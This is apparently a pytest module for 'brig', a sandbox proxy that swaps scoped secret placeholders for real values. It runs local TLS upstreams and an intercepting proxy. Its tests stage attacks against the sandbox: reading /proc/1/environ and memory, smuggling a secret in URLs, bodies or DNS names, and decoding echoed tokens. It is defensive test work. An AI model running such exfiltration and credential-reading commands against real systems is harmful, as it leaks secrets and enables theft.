"""Scoped credentials and request-level rules (issue 18, docs/secrets.md),
against TLS upstreams in network namespaces this module builds.

The upstreams (in `brig-t-<tag>`, reached over a veth from the client
namespace where brig runs, as test_egress_netns.py does it) log every
request they receive — method, path, headers, body — as JSON lines, so each
test asserts on the host side what really arrived:
  - :443  HTTPS, a certificate for api.test and other.test (the test's CA)
  - :8443 HTTPS, a certificate for evil.test only
  - :80   plain HTTP
Endpoints: /whoami (200 "hi"), /echo (the Authorization header back),
/redirect (302 to http://other.test/collect), /repo.git/... (git's dumb
HTTP, behind Basic auth with the real token), anything else 200 "ok".

The secret's real value is random per module; the sandbox must only ever
hold `brig-secret-API_TOKEN-<token>`."""
import base64
import json
import os
import pathlib
import re
import secrets
import shutil
import subprocess
import urllib.parse

import pytest

from conftest import IS_ROOT
from test_escape import attack
from test_egress_netns import PY, InClientNamespace, namespaces_up, sh

SERVER = r'''
import base64, gzip, http.server, json, os, ssl, sys, threading
root, log_path, ca_dir, value = sys.argv[1:5]
lock = threading.Lock()
log = open(log_path, "a", buffering=1)
token = base64.b64encode(b"x-access-token:" + value.encode()).decode()

class H(http.server.SimpleHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def __init__(self, *a, **kw):
        super().__init__(*a, directory=root, **kw)
    def log_message(self, *a):
        pass
    def note(self, body=b""):
        with lock:
            log.write(json.dumps({"port": self.server.server_port, "method": self.command, "path": self.path,
                                  "headers": dict(self.headers), "body": body.decode(errors="replace")}) + "\n")
    def reply(self, code, body, extra=()):
        self.send_response(code)
        for k, v in extra:
            self.send_header(k, v)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)
    def read_body(self):
        # what arrived, also when brig cut the body short (it is logged whole)
        got = b""
        try:
            if "chunked" in (self.headers.get("Transfer-Encoding") or ""):
                while True:
                    size = int(self.rfile.readline().split(b";")[0] or b"0", 16)
                    if not size:
                        self.rfile.readline()
                        break
                    got += self.rfile.read(size)
                    self.rfile.readline()
            else:
                n = int(self.headers.get("Content-Length") or 0)
                got = self.rfile.read(n) if n else b""
        except (OSError, ValueError):
            pass
        return got
    def handle_any(self):
        body = self.read_body()
        self.note(body)
        p = self.path
        if p.startswith("/repo.git"):
            if self.headers.get("Authorization") != "Basic " + token:
                return self.reply(401, b"auth\n", [("WWW-Authenticate", 'Basic realm="git"')])
            return super().do_GET()
        if p == "/echo":
            return self.reply(200, (self.headers.get("Authorization") or "").encode())
        if p in ("/echo-gzip", "/echo-gzip-always"):
            # as a server with compression on: gzip when asked (or always)
            body = (self.headers.get("Authorization") or "").encode()
            if p.endswith("always") or "gzip" in (self.headers.get("Accept-Encoding") or ""):
                return self.reply(200, gzip.compress(body), [("Content-Encoding", "gzip")])
            return self.reply(200, body)
        if p == "/echo-chunked":
            # as a streaming server: the echo in chunks of 5 bytes
            body = (self.headers.get("Authorization") or "no authorization, no secret").encode()
            self.send_response(200)
            self.send_header("Transfer-Encoding", "chunked")
            self.end_headers()
            for i in range(0, len(body), 5):
                self.wfile.write(b"%x\r\n%s\r\n" % (len(body[i:i + 5]), body[i:i + 5]))
            self.wfile.write(b"0\r\n\r\n")
            return
        if p.startswith("/echo-form/"):
            # the Authorization header back, transformed as the form says
            h, form = self.headers.get("Authorization") or "", p.rsplit("/", 1)[1]
            b = h.encode()
            v = h.split(" ", 1)[-1]
            out = {"hex": b.hex(), "HEX": b.hex().upper(),
                   "json": "".join("\\u%04x" % ord(c) for c in h),
                   "json-mixed": "".join("\\u%04X" % ord(c) if i % 2 else c for i, c in enumerate(h)),
                   "url": "".join("%%%02X" % c for c in b),
                   "url-mixed": "".join("%%%02x" % c if i % 3 == 0 else chr(c) for i, c in enumerate(b)),
                   "half": v[3:3 + (len(v) + 1) // 2],
                   "below": v[3:3 + (len(v) + 1) // 2 - 1]}[form]
            return self.reply(200, ('{"you_sent": "%s"}' % out).encode())
        if p == "/ws-lenient":
            # a server that upgrades without being asked properly, then
            # sends a frame holding the Authorization it received
            msg = (self.headers.get("Authorization") or "").encode()
            self.wfile.write(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"
                             + bytes([0x81, len(msg)]) + msg)
            self.close_connection = True
            return
        if p == "/redirect":
            return self.reply(302, b"", [("Location", "http://other.test/collect")])
        if p == "/big":
            data = b"x" * (1 << 20)
            return self.reply(200, data)
        return self.reply(200, b"hi\n" if p == "/whoami" else b"ok\n")
    do_GET = do_POST = do_PUT = do_DELETE = do_HEAD = handle_any

class S(http.server.ThreadingHTTPServer):
    daemon_threads = True

def tls(port, name):
    s = S(("0.0.0.0", port), H)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(f"{ca_dir}/{name}.pem", f"{ca_dir}/{name}.key")
    s.socket = ctx.wrap_socket(s.socket, server_side=True)
    return s

for s in (S(("0.0.0.0", 80), H), tls(443, "api"), tls(8443, "evil")):
    threading.Thread(target=s.serve_forever, daemon=True).start()
print("READY", flush=True)
threading.Event().wait()
'''


class Upstreams:
    """Two namespaces and a veth (as test_egress_netns.Netns), the TLS
    servers above, their request log."""

    def __init__(self, tmp):
        self.tmp = tmp
        tag = secrets.token_hex(3)
        self.name, self.client = f"brig-t-{tag}", f"brig-t-{tag}-c"
        self.veth_host, self.veth_ns = f"bs{tag}h", f"bs{tag}n"
        x = secrets.randbelow(254) + 1
        self.host_addr, self.addr = f"198.18.{x}.1", f"198.18.{x}.2"
        self.log = tmp / "requests.log"
        self.log.touch()
        self.value = "real-" + secrets.token_hex(16)
        self.secret_file = tmp / "token.txt"
        self.secret_file.write_text(self.value + "\n")
        self.secret_file.chmod(0o644)
        self.proc = None
        self.made = []

    def up(self):
        sh("ip", "netns", "add", self.name)
        self.made.append(self.name)
        sh("ip", "netns", "add", self.client)
        self.made.append(self.client)
        cl, ns = ["ip", "-n", self.client], ["ip", "-n", self.name]
        sh(*cl, "link", "add", self.veth_host, "type", "veth", "peer", "name", self.veth_ns)
        sh(*cl, "link", "set", self.veth_ns, "netns", self.name)
        sh(*cl, "link", "set", "lo", "up")
        sh(*cl, "addr", "add", f"{self.host_addr}/30", "dev", self.veth_host)
        sh(*cl, "link", "set", self.veth_host, "up")
        sh(*ns, "link", "set", "lo", "up")
        sh(*ns, "addr", "add", f"{self.addr}/30", "dev", self.veth_ns)
        sh(*ns, "link", "set", self.veth_ns, "up")
        t = self.tmp
        ec = ["-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes"]
        sh("openssl", "req", "-x509", *ec, "-keyout", t / "ca.key", "-out", t / "ca.pem", "-days", "2",
           "-subj", "/CN=brig secrets test CA", "-addext", "basicConstraints=critical,CA:TRUE",
           "-addext", "keyUsage=critical,keyCertSign,cRLSign")
        for name, sans in (("api", "DNS:api.test,DNS:other.test"), ("evil", "DNS:evil.test")):
            sh("openssl", "req", *ec, "-keyout", t / f"{name}.key", "-out", t / f"{name}.csr", "-subj",
               f"/CN={name}.test")
            (t / f"{name}.cnf").write_text("basicConstraints=CA:FALSE\nkeyUsage=critical,digitalSignature\n"
                                           f"extendedKeyUsage=serverAuth\nsubjectAltName={sans}\n")
            sh("openssl", "x509", "-req", "-in", t / f"{name}.csr", "-CA", t / "ca.pem", "-CAkey", t / "ca.key",
               "-CAcreateserial", "-out", t / f"{name}.pem", "-days", "2", "-extfile", t / f"{name}.cnf")
        (t / "ca.pem").chmod(0o644)
        www = t / "www"
        www.mkdir()
        env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(t), "GIT_CONFIG_NOSYSTEM": "1"}
        git = ["git", "-c", "user.name=brig", "-c", "user.email=brig@api.test", "-c", "init.defaultBranch=main"]
        sh(*git, "init", "-q", t / "work", env=env)
        (t / "work" / "README").write_text("cloned with a scoped token\n")
        sh(*git, "-C", t / "work", "add", "README", env=env)
        sh(*git, "-C", t / "work", "commit", "-q", "-m", "one", env=env)
        sh(*git, "clone", "-q", "--bare", t / "work", www / "repo.git", env=env)
        sh("git", "-C", www / "repo.git", "update-server-info", env=env)
        (t / "server.py").write_text(SERVER)
        self.proc = subprocess.Popen(["ip", "netns", "exec", self.name, PY, str(t / "server.py"), str(www),
                                      str(self.log), str(t), self.value],
                                     stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        if self.proc.stdout.readline().strip() != "READY":
            raise RuntimeError(f"upstream did not start: {self.proc.stderr.read()[-2000:]}")
        # the veth's carrier comes up asynchronously: wait for a real answer
        sh("ip", "netns", "exec", self.client, "curl", "-s", "--noproxy", "*", "--retry", "50",
           "--retry-connrefused", "--retry-delay", "0", "--retry-max-time", "10", "-m", "2",
           f"http://{self.addr}/ready")

    def down(self):
        if self.proc is not None and self.proc.poll() is None:
            self.proc.kill()
            self.proc.wait()
        for n in reversed(self.made):
            subprocess.run(["ip", "netns", "del", n], capture_output=True)

    def mark(self):
        return self.log.stat().st_size

    def seen(self, since):
        with open(self.log) as f:
            f.seek(since)
            return [json.loads(line) for line in f.read().splitlines()]

    def args(self, *extra, mode="proxy"):
        return ["--net", mode, "--allow-cidr", "198.18.0.0/15",
                "--resolve", f"api.test:{self.addr}", "--resolve", f"other.test:{self.addr}",
                "--resolve", f"evil.test:{self.addr}",
                "--allow-host", "api.test", "--allow-host", "api.test:8443", "--allow-host", "other.test",
                "--secret", f"API_TOKEN=@{self.secret_file}", "--secret-host", "API_TOKEN=api.test",
                "--upstream-ca", str(self.tmp / "ca.pem"), *extra]


@pytest.fixture(scope="module")
def up():
    if not IS_ROOT:
        pytest.skip("SECRETS TESTS NEED ROOT: building a network namespace and a veth pair takes root "
                    "(the brig under test runs as root and as nobody)")
    for tool in ("ip", "openssl", "git", "curl", "nsenter"):
        if not shutil.which(tool):
            pytest.skip(f"SECRETS TESTS NEED {tool} (scripts/install-deps installs it)")
    yield from namespaces_up(Upstreams, "brig-secrets-")


@pytest.fixture
def ws(brig, up):
    return InClientNamespace(brig, up.client)


def audited(brig, script, *args, **kw):
    path = brig.reports / f"audit-{secrets.token_hex(4)}.jsonl"
    r = brig.sh(script, "--audit", str(path), *args, **kw)
    events = [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []
    assert "Sanitizer" not in r.stderr, r   # the ASan build: no leak, no error in the supervisor
    return r, events, path


# Python inside the sandbox: TLS to api.test through the proxy's CONNECT
# (the sandbox's CA bundle is the default store there)
TLS_TUNNEL = '''import os, socket, ssl
def tls_tunnel():
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    s.sendall(b"CONNECT api.test:443 HTTP/1.1\\r\\nHost: api.test:443\\r\\n\\r\\n")
    head = b""
    while b"\\r\\n\\r\\n" not in head:
        head += s.recv(1)
    return ssl.create_default_context().wrap_socket(s, server_hostname="api.test")
'''


def placeholder_of(text):
    m = re.search(r"brig-secret-API_TOKEN-[0-9a-f]{32}", text)
    assert m, text
    return m.group(0)


def assert_never_leaked(up, r, audit_path):
    """The value reached nothing of the sandbox's nor the run's records."""
    assert up.value not in r.stdout and up.value not in r.stderr, r
    assert up.value not in audit_path.read_text()


@attack("secret-value-in-sandbox", "read the real value of a bound secret from inside: the environment, brig's "
        "files, the trust store, pid 1's environ and memory, and an upstream that echoes the header back",
        "placeholders only inside; the value in the supervisor's vault (MADV_DONTDUMP|MADV_WIPEONFORK), swapped "
        "in on the way out; a response holding a value is cut before it reaches the sandbox")
def test_bound_secret_reaches_its_host_only_over_verified_tls(ws, up):
    """curl (CONNECT and SOCKS5), urllib and requests; the upstream gets the
    value, the sandbox only ever the placeholder (environment, files,
    pid 1's memory, the answer of an echoing upstream)."""
    brig = ws
    mark = up.mark()
    script = r'''
echo "PH=$API_TOKEN"
curl -sS -H "Authorization: Bearer $API_TOKEN" https://api.test/whoami
curl -sS --proxy socks5h://127.0.0.1:1080 -H "Authorization: Bearer $API_TOKEN" https://api.test/whoami
python3 -c '
import os, urllib.request
req = urllib.request.Request("https://api.test/whoami", headers={"Authorization": "Bearer " + os.environ["API_TOKEN"]})
print("urllib", urllib.request.urlopen(req, timeout=20).read().decode(), end="")
import requests
s = requests.Session()
for i in range(2):   # keep-alive: both on one connection
    print("requests", s.get("https://api.test/whoami", headers={"Authorization": "Bearer " + os.environ["API_TOKEN"]}, timeout=20).text, end="")
'
curl -sS -H "Authorization: Bearer $API_TOKEN" https://api.test/echo; echo echo_rc=$?
# everything the sandbox can read of itself, for the host to search
cat /run/brig/* /etc/ssl/certs/ca-certificates.crt 2>/dev/null | tail -c 2000
tr '\0' '\n' < /proc/self/environ
cat /proc/1/environ >/dev/null 2>&1; echo environ1=$?
head -c 100000 /proc/1/mem >/dev/null 2>&1; echo mem1=$?
'''
    r, ev, path = audited(brig, script, *up.args())
    ph = placeholder_of(r.stdout)
    assert "hi\nhi\nurllib hi\nrequests hi\nrequests hi\n" in r.stdout, r
    assert "environ1=1" in r.stdout and "mem1=1" in r.stdout, r
    assert "BEGIN CERTIFICATE" in r.stdout and f"API_TOKEN={ph}" in r.stdout, r
    # the upstream echoed the value back: cut before it reached the sandbox
    assert "echo_rc=18" in r.stdout, r   # curl: the body ended short
    got = [q for q in up.seen(mark) if q["path"] == "/whoami"]
    assert len(got) == 5 and all(q["headers"]["Authorization"] == f"Bearer {up.value}" for q in got), got
    assert not any(ph in json.dumps(q) for q in up.seen(mark)), "the placeholder reached the upstream"
    cut = [e for e in ev if e.get("phase") == "response" and e.get("secret") == "API_TOKEN"]
    assert cut, ev
    assert_never_leaked(up, r, path)


@attack("secret-echo-encoded", "a bound upstream echoes the Authorization header back base64-encoded (the Basic "
        "credential brig encoded), gzip-compressed or in 5-byte chunks; the sandbox decodes it",
        "responses searched for the value's base64 forms too; Accept-Encoding: identity toward bound hosts and a "
        "compressed response from one refused")
def test_an_echo_in_base64_or_gzip_never_reaches_the_sandbox(ws, up):
    """The bound upstream echoes the Authorization header it received: as
    the Basic credential brig encoded (base64 at two alignments),
    gzip-compressed (when asked, and always), in 5-byte chunks. The sandbox
    decodes each; the value must never reach it."""
    brig = ws
    mark = up.mark()
    script = r'''
for user in x ab; do
  curl -sS -u "$user:$API_TOKEN" https://api.test/echo > /tmp/b; echo "basic_$user=$?"
  cut -d' ' -f2 /tmp/b | base64 -d 2>/dev/null; echo
done
curl -sS --compressed -H "Authorization: Bearer $API_TOKEN" https://api.test/echo-gzip; echo gz_rc=$?
curl -sS --compressed -H "Authorization: Bearer $API_TOKEN" https://api.test/echo-gzip-always; echo gza_rc=$?
curl -sS -H "Authorization: Bearer $API_TOKEN" https://api.test/echo-chunked; echo chunked_rc=$?
curl -sS https://api.test/echo-chunked; echo plain_chunked_rc=$?
'''
    r, ev, path = audited(brig, script, *up.args())
    got = up.seen(mark)
    echoed = [q for q in got if q["path"].startswith("/echo")]
    # the upstream really received the value and sent it back
    assert len(echoed) == 6, got
    assert {q["headers"].get("Authorization") for q in echoed} == {
        "Basic " + base64.b64encode(f"x:{up.value}".encode()).decode(),
        "Basic " + base64.b64encode(f"ab:{up.value}".encode()).decode(), f"Bearer {up.value}", None}, echoed
    # the sandbox decoded each echo: the value must be in none
    for line in r.stdout.splitlines():
        assert up.value not in line, f"ATTACK WORKED: the value reached the sandbox: {line}"
    assert_never_leaked(up, r, path)
    # a bound host is asked for identity (curl --compressed asked for gzip)
    assert all(q["headers"].get("Accept-Encoding") == "identity" for q in echoed[2:]), echoed
    assert "basic_x=18" in r.stdout and "basic_ab=18" in r.stdout and "gz_rc=18" in r.stdout, r
    assert "gza_rc=0" in r.stdout and "the response is compressed" in r.stdout, r
    # the value in 5-byte chunks: searched across brig's own framing; an
    # empty chunked echo still arrives whole (brig re-frames the body)
    assert "chunked_rc=18" in r.stdout and "\nno authorization, no secretplain_chunked_rc=0" in r.stdout, r
    cut = [e for e in ev if e.get("phase") == "response" and e.get("decision") == "deny"]
    assert len(cut) == 5, ev


ECHO_FORMS = ("hex", "HEX", "json", "json-mixed", "url", "url-mixed", "half")


@attack("secret-echo-escaped", "a bound upstream echoes the Authorization header back as hex (lower, upper case), "
        "JSON \\u escapes (every character, every other one), URL-encoded (every byte, every third), and half the "
        "value's characters; the sandbox decodes each",
        "responses from a bound host searched for the value's hex forms, and for the value and any run of half its "
        "bytes after %XX, \\xXX, \\uXXXX and \\\" \\\\ \\/ are decoded; a hit cuts the response before it "
        "reaches the sandbox")
def test_an_escaped_or_partial_echo_never_reaches_the_sandbox(ws, up):
    brig = ws
    mark = up.mark()
    forms = " ".join(ECHO_FORMS + ("below",))
    script = f'''
for f in {forms}; do
  curl -sS -H "Authorization: Bearer $API_TOKEN" https://api.test/echo-form/$f > /tmp/o; echo "$f rc=$?"
  cat /tmp/o; echo
done
'''
    r, ev, path = audited(brig, script, *up.args())
    got = up.seen(mark)
    # the upstream really got the value, each time
    assert [q["headers"].get("Authorization") for q in got] == [f"Bearer {up.value}"] * (len(ECHO_FORMS) + 1), got
    out = r.stdout.splitlines()
    half = (len(up.value) + 1) // 2
    for form in ECHO_FORMS:
        i = out.index(next(l for l in out if l.startswith(form + " rc=")))
        body = out[i + 1] if i + 1 < len(out) else ""
        text = body
        for decode in (lambda t: bytes.fromhex(t.split('"')[3]).decode(), lambda t: json.loads(t)["you_sent"],
                       lambda t: urllib.parse.unquote(t)):
            try:
                text += "\n" + decode(body)
            except (ValueError, IndexError, KeyError):
                pass
        for k in range(len(up.value) - half + 1):
            assert up.value[k:k + half] not in text, f"ATTACK WORKED: {form} brought {half} bytes of the value in: {body}"
        assert out[i] == f"{form} rc=18", r   # cut
    # a run one byte short of half passes (a key's shown prefix, a shared structure)
    assert "below rc=0" in out and up.value[3:3 + half - 1] in r.stdout, r
    cut = [e for e in ev if e.get("phase") == "response" and e.get("decision") == "deny"]
    assert len(cut) == len(ECHO_FORMS) and all(e["secret"] == "API_TOKEN" for e in cut), ev
    assert_never_leaked(up, r, path)


@attack("placeholder-exfiltration", "send the placeholder to another allowed host (plain http, intercepted https), "
        "in the URL, the body, another header, plain http to the bound host, a host name, after a 3xx to another "
        "host", "every head and body the proxy sees is searched for every placeholder: refused 403 with X-Brig-Deny, "
        "audited naming the secret; the upstream logs no such request")
def test_placeholder_to_another_host_is_refused_as_exfiltration(ws, up):
    """Another allowed host (plain http, and https when it is intercepted),
    the URL, the body, another header, a DNS name: each refused and
    audited with the secret's name; the upstreams received none of them."""
    brig = ws
    mark = up.mark()
    script = r'''
A="Authorization: Bearer $API_TOKEN"
curl -sS -i -H "$A" http://other.test/plain | grep -i '^x-brig-deny'
curl -sS -i -H "$A" https://other.test/tls | grep -i '^x-brig-deny'
curl -sS -i "https://api.test/q?key=$API_TOKEN" | grep -i '^x-brig-deny'
curl -sS -i --data "token=$API_TOKEN" https://api.test/body | grep -i '^x-brig-deny'
curl -sS -i -H "X-Other: $API_TOKEN" https://api.test/hdr | grep -i '^x-brig-deny'
curl -sS -i -H "$A" http://api.test/plain-bound | grep -i '^x-brig-deny'
curl -sS -o /dev/null "https://$API_TOKEN.api.test/"; echo dns_rc=$?
curl -sS -i -L --location-trusted -H "$A" https://api.test/redirect | grep -i '^x-brig-deny'
curl -sS -i --data "k=$API_TOKEN" http://other.test/plain-body | grep -i '^x-brig-deny'
# a body too big to judge whole first: streamed, cut before the piece holding it
python3 -c 'import os, sys; sys.stdout.write("x" * 99999 + os.environ["API_TOKEN"] + "y" * 100000)' > /tmp/big
curl -sS -i --data-binary @/tmp/big https://api.test/bigbody | grep -i '^x-brig-deny'
'''
    r, ev, path = audited(brig, script, *up.args("--http-rule", "other.test * /**"))
    lines = r.stdout.splitlines()
    deny = [l for l in lines if l.lower().startswith("x-brig-deny")]
    assert len(deny) == 9, (r.stdout, r.stderr)  # whole: which one is missing
    assert "other.test:80" in deny[0] and "secret API_TOKEN over plain http" in deny[0], deny
    assert "secret API_TOKEN to a host it is not bound to" in deny[1], deny
    assert "secret API_TOKEN in the URL" in deny[2], deny
    assert "secret API_TOKEN in the request body" in deny[3], deny
    assert "secret API_TOKEN in header X-Other" in deny[4], deny
    assert "secret API_TOKEN over plain http" in deny[5], deny
    assert "dns_rc=56" in r.stdout, r
    assert "other.test:80" in deny[6], deny   # the redirect's second hop
    assert "secret API_TOKEN in a plain-http request body" in deny[7], deny
    assert "secret API_TOKEN in the request body" in deny[8], deny
    exfil = [e for e in ev if e.get("event") == "net" and e["decision"] == "deny" and "API_TOKEN" in e.get("reason", "")]
    assert len(exfil) == 10, ev
    seen = up.seen(mark)
    # the allowed request, and the head of the streamed body (cut short): nothing carrying the placeholder
    assert [q["path"] for q in seen] in (["/redirect"], ["/redirect", "/bigbody"]), seen
    assert not any("brig-secret-API_TOKEN" in json.dumps(q) for q in seen), seen
    assert all(q["headers"]["Host"] == "api.test" for q in seen), seen   # the value went to its host only
    assert_never_leaked(up, r, path)


@attack("placeholder-in-a-later-body-read", "a plain-http body whose placeholder comes after its head: the "
        "client waits for 100 Continue, then sends 16 KiB of filler with the placeholder across the relay's 16 KiB "
        "read (Content-Length), or split across two chunks (chunked, plain http and intercepted https)",
        "every byte of a plain-http body is searched as it passes (a seam of 31 bytes between pieces; a chunked "
        "body's data alone, its framing followed), the piece holding it never sent: 403 and an audit event")
def test_a_placeholder_later_in_a_body_never_leaves(ws, up):
    """The old proxy searched a plain-http body only as far as it came with
    its head, and the interceptor searched a chunked body's raw bytes, in
    which the chunk framing splits a placeholder in two."""
    brig = ws
    mark = up.mark()
    script = r'''
python3 - <<'EOF'
''' + TLS_TUNNEL + r'''
ph = os.environ["API_TOKEN"].encode()
half = len(ph) - 12
print("placeholder", ph.decode())
def framed(chunks):
    return b"".join(b"%x\r\n%s\r\n" % (len(c), c) for c in chunks) + b"0\r\n\r\n"
def answer(s):
    out = b""
    try:
        while True:
            d = s.recv(65536)
            if not d:
                break
            out += d
    except OSError:
        pass
    lines = out.split(b"\r\n")
    final = [l for l in lines if l.startswith(b"HTTP/1.1 ") and not l.startswith(b"HTTP/1.1 100")]
    deny = [l for l in lines if l.lower().startswith(b"x-brig-deny")]
    return (final[0] if final else b"none").decode(), (deny[0] if deny else b"").decode()
def plain(path, chunked):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    if chunked:
        body, framing = framed([b"a" * 20000 + ph[:half], ph[half:] + b"b" * 100]), "Transfer-Encoding: chunked"
    else:
        body = b"a" * (16384 - half) + ph + b"b" * 100
        framing = "Content-Length: %d" % len(body)
    s.sendall(("POST http://other.test%s HTTP/1.1\r\nHost: other.test\r\nExpect: 100-continue\r\n%s\r\n\r\n"
               % (path, framing)).encode())
    cont = b""
    while b"\r\n\r\n" not in cont:   # the head went on alone: the body follows in reads of its own
        cont += s.recv(1)
    print(path, "continue", cont.split(b"\r\n")[0].decode())
    s.sendall(body)
    print(path, *answer(s))
def tls_chunked(path):
    t = tls_tunnel()
    t.sendall(("POST %s HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n" % path).encode())
    t.sendall(framed([b"a" * 300 + ph[:half], ph[half:] + b"b" * 10]))
    print(path, *answer(t))
plain("/slow-length", False)
plain("/slow-chunked", True)
tls_chunked("/tls-chunked")
EOF
'''
    r, ev, path = audited(brig, script, *up.args("--http-rule", "other.test * /**"))
    out = r.stdout
    for p in ("/slow-length", "/slow-chunked"):
        assert f"{p} continue HTTP/1.1 100 Continue" in out, r
        assert f"{p} HTTP/1.1 403 Forbidden X-Brig-Deny: other.test:80; exfiltration: the placeholder of secret " \
               "API_TOKEN in a plain-http request body" in out, r
    assert "/tls-chunked HTTP/1.1 403 Forbidden X-Brig-Deny: api.test; exfiltration: the placeholder of secret " \
           "API_TOKEN in the request body" in out, r
    # on the host: the heads arrived, the bodies cut before the piece that
    # completes the placeholder (the part of it in the piece before went on)
    seen, ph = up.seen(mark), placeholder_of(r.stdout)
    for q in seen:
        assert ph[-32:] not in q["body"], f"ATTACK WORKED: the upstream got the placeholder: {q}"
    assert {q["path"] for q in seen} <= {"/slow-length", "/slow-chunked", "/tls-chunked"}, seen
    exfil = [e for e in ev if e.get("event") == "net" and e["decision"] == "deny" and "API_TOKEN" in e.get("reason", "")]
    assert len(exfil) == 3, ev
    assert_never_leaked(up, r, path)


@attack("refusal-reset-before-read", "a client that writes its whole request before it reads (curl does): an 8 MiB "
        "body to the intercepted host whose first piece holds the placeholder, sent on while brig has refused it "
        "(CI saw a curl lose its 403 so: the refusal's close, with the body's rest unread, reset the connection)",
        "after its own answer brig sends a FIN and reads and drops what the client still sends (up to 2 s or "
        "16 MiB, as an HTTP server's lingering close): the client's writes succeed, it reads the 403 and its "
        "X-Brig-Deny; the upstream got nothing of the body")
def test_a_refused_body_still_being_sent_gets_its_403(ws, up):
    brig = ws
    mark = up.mark()
    script = r'''
python3 - <<'EOF'
''' + TLS_TUNNEL + r'''
ph = os.environ["API_TOKEN"].encode()
body = ph + b"x" * (8 * 1024 * 1024)
t = tls_tunnel()
try:
    t.sendall(b"POST /huge HTTP/1.1\r\nHost: api.test\r\nContent-Length: %d\r\n\r\n" % len(body))
    t.sendall(body)
    print("sent whole")
except OSError as e:
    print("send failed:", type(e).__name__, e)
out = b""
try:
    while True:
        d = t.recv(65536)
        if not d:
            break
        out += d
except OSError as e:
    print("read failed:", type(e).__name__, e)
lines = out.split(b"\r\n")
print("status", lines[0].decode() if lines and lines[0] else "none")
print("deny", *[l.decode() for l in lines if l.lower().startswith(b"x-brig-deny")])
EOF
'''
    r, ev, path = audited(brig, script, *up.args())
    assert "sent whole" in r.stdout, f"the client's writes failed: the refusal reset the connection: {r}"
    assert "status HTTP/1.1 403 Forbidden" in r.stdout, r
    assert "deny X-Brig-Deny: api.test; exfiltration: the placeholder of secret API_TOKEN in the request body" \
           in r.stdout, r
    # the head went on alone (as a body is judged piece by piece); the body, cut at its first, never did
    assert all(not q["body"] for q in up.seen(mark) if q["path"] == "/huge"), up.seen(mark)
    assert_never_leaked(up, r, path)


@attack("secret-to-unverified-peer", "point the bound name at a server with another name's certificate; reach a "
        "CIDR-allowed address with the bound host's SNI", "the value is swapped in only after the upstream's certificate "
        "verified for the bound name (trust store + --upstream-ca); a literal address is never intercepted")
def test_unverified_peers_never_get_the_value(ws, up):
    """A server whose certificate is for another name (--resolve points the
    bound host at it): 502 with the reason, nothing sent. An address
    allowed by CIDR with the bound host's SNI: end to end, placeholder only.
    A host with no secret and no rule: end to end (its own certificate)."""
    brig = ws
    mark = up.mark()
    script = r'''
curl -sS -i -H "Authorization: Bearer $API_TOKEN" https://api.test:8443/whoami | grep -i -e '^HTTP/' -e '^x-brig-deny'
# a host with neither a secret nor a rule stays end to end: only the test CA's certificate verifies
curl -sS --cacert "$CA" https://other.test/e2e && echo e2e-ok
python3 - "$ADDR" <<'EOF'
import os, socket, ssl, sys
s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
s.sendall(f"CONNECT {sys.argv[1]}:443 HTTP/1.1\r\nHost: {sys.argv[1]}:443\r\n\r\n".encode())
head = b""
while b"\r\n\r\n" not in head:
    head += s.recv(1)
ctx = ssl.create_default_context(cafile=os.environ["CA"])
t = ctx.wrap_socket(s, server_hostname="api.test")
t.sendall(b"GET /cidr HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\nAuthorization: Bearer " + os.environ["API_TOKEN"].encode() + b"\r\n\r\n")
print("cidr", t.recv(4096).split(b"\r\n")[0].decode())
EOF
'''
    shutil.copy(up.tmp / "ca.pem", brig.workspace / "test-ca.pem")
    r, ev, path = audited(brig, script, *up.args("--env", f"ADDR={up.addr}", "--env", "CA=test-ca.pem"))
    assert "HTTP/1.1 502" in r.stdout and "not valid for api.test" in r.stdout, r
    assert "cidr HTTP/1.1 200 OK" in r.stdout and "ok\ne2e-ok" in r.stdout, r
    seen = up.seen(mark)
    assert [q["path"] for q in seen] == ["/e2e", "/cidr"], seen
    assert seen[1]["headers"]["Authorization"].startswith("Bearer brig-secret-API_TOKEN-"), seen
    assert not any(e.get("protocol") == "https-intercepted" and e.get("host") == "other.test" for e in ev), ev
    tls = [e for e in ev if e.get("phase") == "tls" and e["decision"] == "deny"]
    assert tls and "not valid for api.test" in tls[0]["reason"], ev
    assert_never_leaked(up, r, path)


PROXY = r'''
import socket, ssl, sys, threading
port, mode, log_path, ca_dir, value = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4], sys.argv[5].encode()
log = open(log_path, "a", buffering=1)
def pipe(a, b):
    seen = b""
    try:
        while True:
            d = a.recv(65536)
            if not d:
                break
            seen = (seen + d)[-65536:]
            if value in seen:
                log.write("tunnel saw the value in the clear\n")
            b.sendall(d)
    except OSError:
        pass
    finally:
        try:
            b.shutdown(socket.SHUT_WR)
        except OSError:
            pass
def serve(c):
    head = b""
    while b"\r\n\r\n" not in head:
        d = c.recv(1)
        if not d:
            return
        head += d
    line = head.split(b"\r\n")[0].decode()
    log.write(f"{mode} {line}\n")
    host, p = line.split()[1].rsplit(":", 1)
    c.sendall(b"HTTP/1.1 200 Connection established\r\n\r\n")
    if mode == "tunnel":
        u = socket.create_connection(("127.0.0.1", int(p)))
        threading.Thread(target=pipe, args=(u, c), daemon=True).start()
        pipe(c, u)
        return
    # terminates TLS itself, with a certificate of its own (the test CA's, for evil.test)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(f"{ca_dir}/evil.pem", f"{ca_dir}/evil.key")
    try:
        t = ctx.wrap_socket(c, server_side=True)
        log.write("mitm read " + t.recv(65536).decode(errors="replace").replace("\r\n", " | ") + "\n")
    except (OSError, ssl.SSLError) as e:
        log.write(f"mitm handshake failed: {e}\n")
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
